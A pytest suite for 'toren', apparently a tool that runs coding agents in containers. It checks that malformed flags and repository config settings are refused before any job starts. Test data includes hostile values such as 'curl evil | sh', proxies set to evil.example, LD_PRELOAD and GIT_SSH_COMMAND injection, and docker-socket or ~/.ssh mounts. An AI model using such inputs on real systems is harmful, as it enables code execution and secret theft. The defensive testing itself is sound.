"""Bad invocations: each exits 2 with one line naming the option, and leaves no job, branch or container."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import BASE_IMAGE, git, subprocess_env
from toren_action.cli import main

pytestmark = pytest.mark.docker

GOOD = ["--repo", "./myproject", "--spec", "task.md", "--branch", "toren/ok", "--agent", "shell",
        "--command", "true", "--base-image", BASE_IMAGE, "--disable-daemon"]


def with_(**changes: str | None) -> list[str]:
    """GOOD with some flags replaced (value None drops the flag and its value)."""
    args = list(GOOD)
    for flag, value in changes.items():
        flag = "--" + flag.replace("_", "-")
        if flag in args:
            i = args.index(flag)
            del args[i:i + 2]
        if value is not None:
            args += [flag, value]
    return args


CASES = [
    # (id, argv, expected option in the message)
    ("branch-space", with_(branch="bad name"), "--branch"),
    ("branch-dotdot", with_(branch="a..b"), "--branch"),
    ("branch-dash", with_(branch=None) + ["--branch=-x"], "--branch"),
    ("branch-lock", with_(branch="x.lock"), "--branch"),
    ("branch-slash", with_(branch="a/"), "--branch"),
    ("branch-long", with_(branch="x" * 300), "--branch"),
    ("branch-exists", with_(branch="main"), "--branch"),
    ("base-branch-bad", GOOD + ["--base-branch", "a b"], "--base-branch"),
    ("spec-missing", with_(spec="missing.md"), "--spec"),
    ("spec-empty", with_(spec="empty.md"), "--spec"),
    ("spec-binary", with_(spec="binary.md"), "--spec"),
    ("no-task", with_(spec=None), "--spec"),
    ("spec-and-issue", GOOD + ["--issue", "acme/widget#1"], "--spec"),
    ("issue-bad", with_(spec=None, issue="not-an-issue"), "--issue"),
    ("agent-unknown", with_(agent="nope"), "--agent"),
    ("shell-without-command", with_(command=None), "--command"),
    ("repo-missing", with_(repo="/nonexistent/deeply/nested"), "--repo"),
    ("repo-not-git", with_(repo="plain"), "--repo"),
    ("repo-is-file", with_(repo="task.md"), "--repo"),
    ("repo-url-credential", with_(repo="https://user:ghp_secret123@example.com/a/b.git"), "--repo"),
    ("repo-path-too-long", with_(repo="x" * 300), "--repo"),
    ("spec-path-too-long", with_(spec="s" * 300 + ".md"), "--spec"),
    ("branch-head", with_(branch="HEAD"), "--branch"),
    ("image-upper", with_(base_image="UPPER/Case"), "--base-image"),
    ("image-space", with_(base_image="bad image"), "--base-image"),
    ("env-no-equals", GOOD + ["--env", "NOEQUALS"], "--env"),
    ("env-bad-name", GOOD + ["--env", "1BAD=x"], "--env"),
    ("env-newline", GOOD + ["--env", "A=line1\nline2"], "--env"),
    ("env-credential", GOOD + ["--env", "OPENAI_API_KEY=sk-123"], "--env"),
    ("volume-missing", GOOD + ["--volume", "/nonexistent-src:/x"], "--volume"),
    ("volume-root", GOOD + ["--volume", "/:/host"], "--volume"),
    ("volume-docker-socket", GOOD + ["--volume", "/var/run/docker.sock:/var/run/docker.sock"], "--volume"),
    ("volume-home", GOOD + ["--volume", "{home}:/h"], "--volume"),
    ("volume-ssh", GOOD + ["--volume", "{home}/.ssh:/s:ro"], "--volume"),
    ("volume-relative-dst", GOOD + ["--volume", "plain:relative"], "--volume"),
    ("volume-workspace", GOOD + ["--volume", "plain:/workspace"], "--volume"),
    ("volume-workspace-slash", GOOD + ["--volume", "plain://workspace/."], "--volume"),
    ("volume-secrets-dots", GOOD + ["--volume", "plain:/run//toren/./secrets"], "--volume"),
    ("volume-source-too-long", GOOD + ["--volume", "v" * 300 + ":/x"], "--volume"),
    ("volume-mode", GOOD + ["--volume", "plain:/x:rx"], "--volume"),
    ("volume-dotdot", GOOD + ["--volume", "plain/../plain:/x"], "--volume"),
    ("gpus-word", GOOD + ["--gpus", "lots"], "--gpus"),
    ("gpus-zero", GOOD + ["--gpus", "0"], "--gpus"),
    ("network-container", GOOD + ["--network", "container:abc"], "--network"),
    ("timeout-zero", GOOD + ["--timeout", "0"], "--timeout"),
    ("timeout-negative", GOOD + ["--timeout", "-5"], "--timeout"),
    ("timeout-word", GOOD + ["--timeout", "soon"], "--timeout"),
    ("cost-zero", GOOD + ["--max-cost-usd", "0"], "--max-cost-usd"),
    ("pull-policy", GOOD + ["--pull", "sometimes"], "--pull"),
    ("ca-missing", GOOD + ["--ca-bundle", "/nonexistent.pem"], "--ca-bundle"),
    ("ca-not-pem", GOOD + ["--ca-bundle", "task.md"], "--ca-bundle"),
    ("secret-unset", GOOD + ["--secret", "TOREN_TEST_UNSET_VAR"], "--secret"),
    ("secret-bad-name", GOOD + ["--secret", "a-b"], "--secret"),
    ("memory", GOOD + ["--memory", "lots"], "--memory"),
    ("pids-limit", GOOD + ["--pids-limit", "1"], "--pids-limit"),
    ("unknown-flag", GOOD + ["--frobnicate"], "--frobnicate"),
    # verification (issue 15)
    ("verify-junit-without-verify", GOOD + ["--verify-junit", "reports/*.xml"], "--verify-junit"),
    ("verify-baseline-without-verify", GOOD + ["--verify-baseline"], "--verify-baseline"),
    ("verify-retries-without-verify", GOOD + ["--verify-retries", "1"], "--verify-retries"),
    ("verify-retries-above-5", GOOD + ["--verify", "true", "--verify-retries", "6"], "--verify-retries"),
    ("verify-retries-negative", GOOD + ["--verify", "true", "--verify-retries", "-1"], "--verify-retries"),
    ("verify-junit-outside", GOOD + ["--verify", "true", "--verify-junit", "../*.xml"], "--verify-junit"),
    ("verify-junit-absolute", GOOD + ["--verify", "true", "--verify-junit", "/etc/*.xml"], "--verify-junit"),
    ("verify-timeout-zero", GOOD + ["--verify", "true", "--verify-timeout", "0"], "--verify-timeout"),
    ("allow-preexisting-without-baseline", GOOD + ["--verify", "true", "--verify-allow-preexisting"],
     "--verify-allow-preexisting"),
    ("on-failure-unknown", GOOD + ["--on-failure", "keep"], "--on-failure"),
    ("on-failure-empty", GOOD + ["--on-failure", ""], "--on-failure"),
]


@pytest.fixture
def bad_input_dir(tmp_path, repo, spec, toren_home, monkeypatch):
    monkeypatch.chdir(tmp_path)
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    (tmp_path / "empty.md").write_text("")
    (tmp_path / "binary.md").write_bytes(b"\xff\xfe\x00bad")
    (tmp_path / "plain").mkdir()
    monkeypatch.delenv("TOREN_TEST_UNSET_VAR", raising=False)
    return tmp_path


def assert_nothing_started(toren_home: Path, repo: Path, docker_client) -> None:
    db = toren_home / "toren.db"
    if db.exists():
        import sqlite3

        assert sqlite3.connect(db).execute("SELECT COUNT(*) FROM jobs").fetchone()[0] == 0
    assert not (toren_home / "jobs").exists() or not any((toren_home / "jobs").iterdir())
    assert git("branch", "--list", cwd=repo).split() == ["*", "main"]
    assert not containers_of(toren_home, docker_client)


def containers_of(toren_home: Path, docker_client) -> list:
    """Toren's containers that belong to this test: a job's container mounts its workspace from the job's
    TOREN_HOME (other suites running on the same engine at the same time have containers of their own)."""
    found = docker_client.containers.list(all=True, filters={"label": "toren.managed=1"}, ignore_removed=True)
    return [c for c in found if any(str(m.get("Source", "")).startswith(str(toren_home))
                                    for m in c.attrs.get("Mounts") or ())]


def test_at_least_thirty_cases():
    assert len(CASES) >= 30


@pytest.mark.parametrize("argv,option", [(c[1], c[2]) for c in CASES], ids=[c[0] for c in CASES])
def test_bad_invocation(argv, option, bad_input_dir, toren_home, repo, capsys, docker_client):
    home = os.environ["HOME"]
    code = main(["run", *[a.replace("{home}", home) for a in argv]])
    out, err = capsys.readouterr()
    assert code == 2, err
    assert out == ""
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("toren: ") and option in lines[0], lines[0]
    assert_nothing_started(toren_home, repo, docker_client)


def test_config_file_error_exits_3(bad_input_dir, toren_home, repo, capsys, docker_client):
    (repo / "toren.toml").write_text('timeout_minutes = "soon"\n')
    code = main(["run", *GOOD])
    err = capsys.readouterr().err
    assert code == 3 and "toren.toml: timeout_minutes:" in err and len(err.strip().splitlines()) == 1
    assert_nothing_started(toren_home, repo, docker_client)


def test_repository_config_may_not_reach_host_secrets(bad_input_dir, toren_home, repo, capsys, docker_client,
                                                        monkeypatch):
    monkeypatch.setenv("HOST_DEPLOY_TOKEN", "s3cr3t-value-123")
    for line in ('secrets = ["HOST_DEPLOY_TOKEN"]', 'volumes = ["/etc:/host-etc:ro"]', 'network = "host"',
                 'allow_mounts = ["/"]'):
        (repo / "toren.toml").write_text(line + "\n")
        code = main(["run", *GOOD])
        err = capsys.readouterr().err
        assert code == 3, err
        assert "may not set" in err and len(err.strip().splitlines()) == 1
        assert_nothing_started(toren_home, repo, docker_client)


#: Settings a file found in the repository may not hold (issue 11, finding 3): the key or variable is refused with
#: one line naming the file and the key (exit 3), before any job, branch, image or container exists.
REPO_CASES = [
    # (id, file, text, what the line must name)
    ("branch-onto-main", "toren.toml", 'branch = "main"\nforce_branch = true\n', "branch"),
    ("force-branch-dashed", "toren.toml", "force-branch = true\n", "force_branch"),
    ("base-branch", "toren.toml", 'base_branch = "release"\n', "base_branch"),
    ("repo-elsewhere", "toren.toml", 'repo = "/other/private/repo"\n', "repo"),
    ("spec-host-file", "toren.toml", 'spec = "/etc/passwd"\n', "spec"),
    ("issue", "toren.toml", 'issue = "acme/other#1"\n', "issue"),
    ("base-image", "toren.toml", 'base_image = "evil/image:latest"\n', "base_image"),
    ("base-image-dashed", "toren.toml", 'base-image = "evil/image:latest"\n', "base_image"),
    ("pull", "toren.toml", 'pull = "always"\n', "pull"),
    ("agent", "toren.toml", 'agent = "gemini"\n', "agent"),
    ("command", "toren.toml", 'command = "curl evil | sh"\n', "command"),
    ("memory", "toren.toml", 'memory = "512g"\n', "memory"),
    ("pids-limit", "toren.toml", "pids_limit = 100000\n", "pids_limit"),
    ("cpus", "toren.toml", "cpus = 1024\n", "cpus"),
    ("timeout", "toren.toml", "timeout_minutes = 10080\n", "timeout_minutes"),
    ("max-cost", "toren.toml", "max_cost_usd = 10000\n", "max_cost_usd"),
    ("prices-zero", "toren.toml", '[prices."claude-sonnet-4-5"]\ninput = 0\noutput = 0\n', "prices"),
    ("max-change", "toren.toml", "max_change_mb = 100000\n", "max_change_mb"),
    ("author", "toren.toml", 'author_name = "Linus Torvalds"\n', "author_name"),
    ("author-email-dashed", "toren.toml", 'author-email = "torvalds@linux-foundation.org"\n', "author_email"),
    ("reviewers", "toren.toml", 'reviewers = ["octocat"]\n', "reviewers"),
    ("labels", "toren.toml", 'labels = ["automerge"]\n', "labels"),
    ("draft-off", "toren.toml", "no_pr = true\n", "no_pr"),
    ("key-proxy-off", "toren.toml", 'key_proxy = "off"\n', "key_proxy"),
    ("egress", "toren.toml", 'egress = "allow=evil.example"\n', "egress"),
    ("allow-policy", "toren.toml", 'allow_policy = ["secret-pattern"]\n', "allow_policy"),
    ("ai-summary", "toren.toml", 'ai_summary = "always"\n', "ai_summary"),
    ("pyproject-branch", "pyproject.toml", '[tool.toren]\nbranch = "main"\n', "branch"),
    ("pyproject-force-branch-dashed", "pyproject.toml", '[tool.toren]\nforce-branch = true\n', "force_branch"),
    ("pyproject-base-image", "pyproject.toml", '[tool.toren]\nbase-image = "evil/image:1"\n', "base_image"),
    ("env-https-proxy", "toren.toml", '[env]\nHTTPS_PROXY = "http://evil.example:8080"\n', "HTTPS_PROXY"),
    ("env-lower-proxy", "toren.toml", '[env]\nall_proxy = "socks5://evil.example"\n', "all_proxy"),
    ("env-node-options", "toren.toml", '[env]\nNODE_OPTIONS = "--require /workspace/x.js"\n', "NODE_OPTIONS"),
    ("env-node-ca", "toren.toml", '[env]\nNODE_EXTRA_CA_CERTS = "/workspace/ca.pem"\n', "NODE_EXTRA_CA_CERTS"),
    ("env-node-tls", "toren.toml", '[env]\nNODE_TLS_REJECT_UNAUTHORIZED = "0"\n', "NODE_TLS_REJECT_UNAUTHORIZED"),
    ("env-ssl-cert", "toren.toml", '[env]\nSSL_CERT_FILE = "/workspace/ca.pem"\n', "SSL_CERT_FILE"),
    ("env-ld-preload", "toren.toml", '[env]\nLD_PRELOAD = "/workspace/x.so"\n', "LD_PRELOAD"),
    ("env-pythonpath", "toren.toml", '[env]\nPYTHONSTARTUP = "/workspace/x.py"\n', "PYTHONSTARTUP"),
    ("env-path", "toren.toml", '[env]\nPATH = "/workspace/bin:/usr/bin"\n', "PATH"),
    ("env-git", "toren.toml", '[env]\nGIT_SSH_COMMAND = "sh /workspace/x"\n', "GIT_SSH_COMMAND"),
    ("env-pyproject", "pyproject.toml", '[tool.toren.env]\nHTTPS_PROXY = "http://evil.example"\n', "HTTPS_PROXY"),
    ("tools-option", "toren.toml", 'allowed_tools = ["Read", "--setting-sources", "project"]\n', "allowed_tools"),
]


@pytest.mark.parametrize("name,text,key", [c[1:] for c in REPO_CASES], ids=[c[0] for c in REPO_CASES])
def test_repository_settings_that_are_refused(name, text, key, bad_input_dir, toren_home, repo, capsys,
                                              docker_client):
    (repo / name).write_text(text)
    code = main(["run", *GOOD])
    out, err = capsys.readouterr()
    assert code == 3, err
    assert out == ""
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith(f"toren: {repo / name}") and key in lines[0], lines[0]
    assert "--config" in lines[0] or "may not start with '-'" in lines[0], lines[0]  # the fix
    if name == "pyproject.toml":
        assert "[tool.toren]" in lines[0]
    assert_nothing_started(toren_home, repo, docker_client)


def test_the_same_settings_in_the_users_own_file_are_taken(bad_input_dir, toren_home, repo, capsys, docker_client):
    """--config names the user's file: it may set what the repository's may not (here a bad branch name, to stop
    the run with a usage error that proves the value was taken)."""
    mine = bad_input_dir / "mine.toml"
    mine.write_text('branch = "bad name"\n[env]\nHTTPS_PROXY = "http://proxy.corp.example:3128"\n')
    code = main(["run", *with_(branch=None), "--config", str(mine)])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("toren: --branch: branch name 'bad name'"), err
    assert_nothing_started(toren_home, repo, docker_client)


def _commit(path: Path, message: str) -> None:
    git("add", "-A", cwd=path)
    git("-c", "user.name=User", "-c", "user.email=user@example.invalid", "commit", "-q", "-m", message, cwd=path)


@pytest.mark.parametrize("form", ["local-checkout", "url-from-the-checkout"])
def test_a_committed_toren_toml_cannot_push_onto_main(form, tmp_path, spec, toren_home, docker_client):
    """The attack of issue 11, finding 3, end to end with real git and a real `toren run` process: a checkout's
    committed toren.toml says branch = "main", force_branch = true. Before the fix a plain run pushed the agent's
    commit onto main (a fast-forward); now it is refused, one line, exit 3, and main in the origin is unchanged."""
    origin = tmp_path / "origin.git"
    checkout = tmp_path / "checkout"
    git("init", "-q", "--bare", "-b", "main", str(origin), cwd=tmp_path)
    git("clone", "-q", str(origin), str(checkout), cwd=tmp_path)
    (checkout / "app.py").write_text("print('hello')\n")
    (checkout / "toren.toml").write_text('branch = "main"\nforce_branch = true\nmodel = "m"\n')
    _commit(checkout, "initial")
    git("push", "-q", "origin", "HEAD:main", cwd=checkout)
    if form == "local-checkout":
        # the checkout is the origin; a push onto its checked-out main would update it (as a shared work tree can)
        git("config", "receive.denyCurrentBranch", "updateInstead", cwd=checkout)
        repo_arg, pushed_to = str(checkout), checkout
    else:
        repo_arg, pushed_to = f"file://{origin}", origin
    before = git("rev-parse", "refs/heads/main", cwd=pushed_to).strip()

    proc = subprocess.run(
        [sys.executable, "-m", "toren_action", "run", "--repo", repo_arg, "--spec", str(spec), "--agent", "shell",
         "--command", "echo pwned > pwned.txt", "--base-image", BASE_IMAGE, "--disable-daemon"],
        cwd=checkout, capture_output=True, text=True, env=subprocess_env(), timeout=300)

    assert proc.returncode == 3, proc.stderr
    assert proc.stdout == ""
    assert proc.stderr.count("\n") == 1, proc.stderr
    line = proc.stderr.strip()
    assert line.startswith(f"toren: {checkout / 'toren.toml'}: branch: ") and "may not set branch" in line, line
    assert git("rev-parse", "refs/heads/main", cwd=pushed_to).strip() == before
    assert git("for-each-ref", "--format=%(refname)", "refs/heads", cwd=pushed_to).split() == ["refs/heads/main"]
    assert not (checkout / "pwned.txt").exists()
    assert not (toren_home / "jobs").exists() or not any((toren_home / "jobs").iterdir())
    if (toren_home / "toren.db").exists():
        import sqlite3

        assert sqlite3.connect(toren_home / "toren.db").execute("SELECT COUNT(*) FROM jobs").fetchone()[0] == 0
    assert not containers_of(toren_home, docker_client)

    # the plain form, `--command true`, is refused the same way
    proc = subprocess.run(
        [sys.executable, "-m", "toren_action", "run", "--repo", repo_arg, "--spec", str(spec), "--agent", "shell",
         "--command", "true", "--disable-daemon"],
        cwd=checkout, capture_output=True, text=True, env=subprocess_env(), timeout=300)
    assert proc.returncode == 3 and proc.stderr.count("\n") == 1 and "may not set branch" in proc.stderr
    assert git("rev-parse", "refs/heads/main", cwd=pushed_to).strip() == before


def test_bad_utf8_config_is_a_config_error(bad_input_dir, toren_home, repo, capsys, docker_client):
    (repo / "toren.toml").write_bytes(b'command = "\xff"\n')
    code = main(["run", *GOOD])
    err = capsys.readouterr().err
    assert code == 3 and "cannot read it as TOML" in err


def test_environment_error_names_the_variable(bad_input_dir, toren_home, repo, capsys, docker_client, monkeypatch):
    monkeypatch.setenv("TOREN_TIMEOUT_MINUTES", "abc")
    code = main(["run", *GOOD])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("toren: TOREN_TIMEOUT_MINUTES: ")
    assert_nothing_started(toren_home, repo, docker_client)


def test_missing_base_image_with_pull_never(bad_input_dir, toren_home, repo, capsys, docker_client):
    code = main(["run", *with_(base_image="toren/does-not-exist:1"), "--pull", "never", "--json"])
    out, err = capsys.readouterr()
    assert code == 5  # ImageError
    assert "--pull never" in out and "toren/does-not-exist:1" in out


def test_as_a_subprocess_one_line_and_exit_2(bad_input_dir, toren_home):
    env = subprocess_env()
    proc = subprocess.run([sys.executable, "-m", "toren_action", "run", *with_(branch="bad name")],
                          capture_output=True, text=True, env=env)
    assert proc.returncode == 2
    assert proc.stderr.count("\n") == 1 and proc.stderr.startswith("toren: --branch: ")


#: The setup's bad input (issue 15): one line, nothing started. (file text or None, extra flags, exit code, named)
SETUP_CASES = [
    ("setup-unknown-key", '[setup]\nrun = "true"\nnetwork = "host"\n', [], 3, "setup.network"),
    ("setup-unknown-key-pyproject", None, [], 3, "setup.secrets"),
    ("setup-cache-key-dotdot", '[setup]\nrun = "true"\ncache_key = ["../other/requirements.txt"]\n', [], 2,
     "setup_cache_key"),
    ("setup-cache-key-absolute", '[setup]\nrun = "true"\ncache_key = ["/etc/passwd"]\n', [], 2, "setup_cache_key"),
    ("setup-cache-key-inner-dotdot", None, ["--setup", "true", "--setup-cache-key", "src/../../x"], 2,
     "--setup-cache-key"),
    ("setup-cache-key-home", None, ["--setup", "true", "--setup-cache-key", "~/.netrc"], 2, "--setup-cache-key"),
    ("setup-network-from-repo", 'setup_network = "host"\n', [], 3, "setup_network"),
    ("secret-for-from-repo", 'secret_for = ["setup"]\n', [], 3, "secret_for"),
    ("setup-network-bad", None, ["--setup", "true", "--setup-network", "container:abc"], 2, "--setup-network"),
    ("secret-for-without-secret", None, ["--setup", "true", "--secret-for", "setup"], 2, "--secret-for"),
    ("secret-for-unknown-name", None, ["--secret", "HOME", "--secret-for", "NOPE=setup"], 2, "--secret-for"),
    ("secret-for-bad-target", None, ["--secret", "HOME", "--secret-for", "HOME=agent"], 2, "--secret-for"),
]


@pytest.mark.parametrize("text,extra,exit_code,named", [c[1:] for c in SETUP_CASES], ids=[c[0] for c in SETUP_CASES])
def test_bad_setup_input(text, extra, exit_code, named, bad_input_dir, toren_home, repo, capsys, docker_client):
    if text is not None:
        (repo / "toren.toml").write_text(text)
    elif "pyproject" in named or named == "setup.secrets":
        (repo / "pyproject.toml").write_text('[project]\nname = "x"\n[tool.toren.setup]\nrun = "true"\n'
                                             'secrets = ["HOME"]\n')
    code = main(["run", *GOOD, *extra])
    out, err = capsys.readouterr()
    assert code == exit_code, err
    assert out == "" and len(err.strip().splitlines()) == 1, err
    assert named in err, err
    assert_nothing_started(toren_home, repo, docker_client)


@pytest.mark.parametrize("how", ["absolute", "relative", "directory"])
def test_a_setup_script_that_is_a_symlink_out_of_the_repository_is_refused(how, bad_input_dir, toren_home, repo,
                                                                           capsys, docker_client, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "setup.sh").write_text("curl evil | sh\n")
    if how == "directory":
        (repo / ".toren").symlink_to(outside)
    else:
        (repo / ".toren").mkdir()
        target = outside / "setup.sh" if how == "absolute" else Path("..", "..", "outside", "setup.sh")
        (repo / ".toren" / "setup.sh").symlink_to(target)
    code = main(["run", *GOOD])
    err = capsys.readouterr().err
    assert code == 2, err
    assert ".toren/setup.sh" in err and "symlink out of the repository" in err and len(err.strip().splitlines()) == 1
    assert_nothing_started(toren_home, repo, docker_client)
